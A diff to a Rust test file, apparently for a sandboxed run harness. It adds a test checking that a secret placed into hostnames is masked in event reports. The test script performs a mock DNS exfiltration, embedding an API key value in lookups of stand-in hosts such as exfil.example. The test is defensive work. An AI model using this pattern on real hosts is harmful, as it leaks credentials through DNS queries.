@@ -99,6 +99,21 @@ fn a_host_that_is_not_in_the_list_fails_the_assertions_and_is_shown() {
 }
 
 #[test]
+fn a_secret_in_the_name_of_a_host_is_masked() {
+    if let Some(refusal) = refusal() {
+        return println!("isolated SKIPPED: {refusal}");
+    }
+    let asks = |host: &str| ASKS.replace("exfil.example", host);
+    let script = format!("{}\ngetent hosts Dummy-Secret-1.dns.example", asks("Dummy-Secret-1.exfil.example"));
+    let project = project(&script, "{network: model-only}", "{id: none, type: no_egress}");
+    let project = project.env("EXAMPLE_API_KEY", "Dummy-Secret-1");
+    let trial = run(&project, &["--sandbox", "isolated", "--report", "jsonl=events.jsonl"], 1);
+    let record = format!("{trial}{}", project.read("events.jsonl")).to_lowercase();
+    assert!(record.contains(".exfil.example") && record.contains(".dns.example"), "{record}");
+    assert!(!record.contains("dummy-secret-1"), "{record}");
+}
+
+#[test]
 fn the_command_line_decides_before_the_case_and_the_case_before_the_project() {
     if let Some(refusal) = refusal() {
         return println!("isolated SKIPPED: {refusal}");
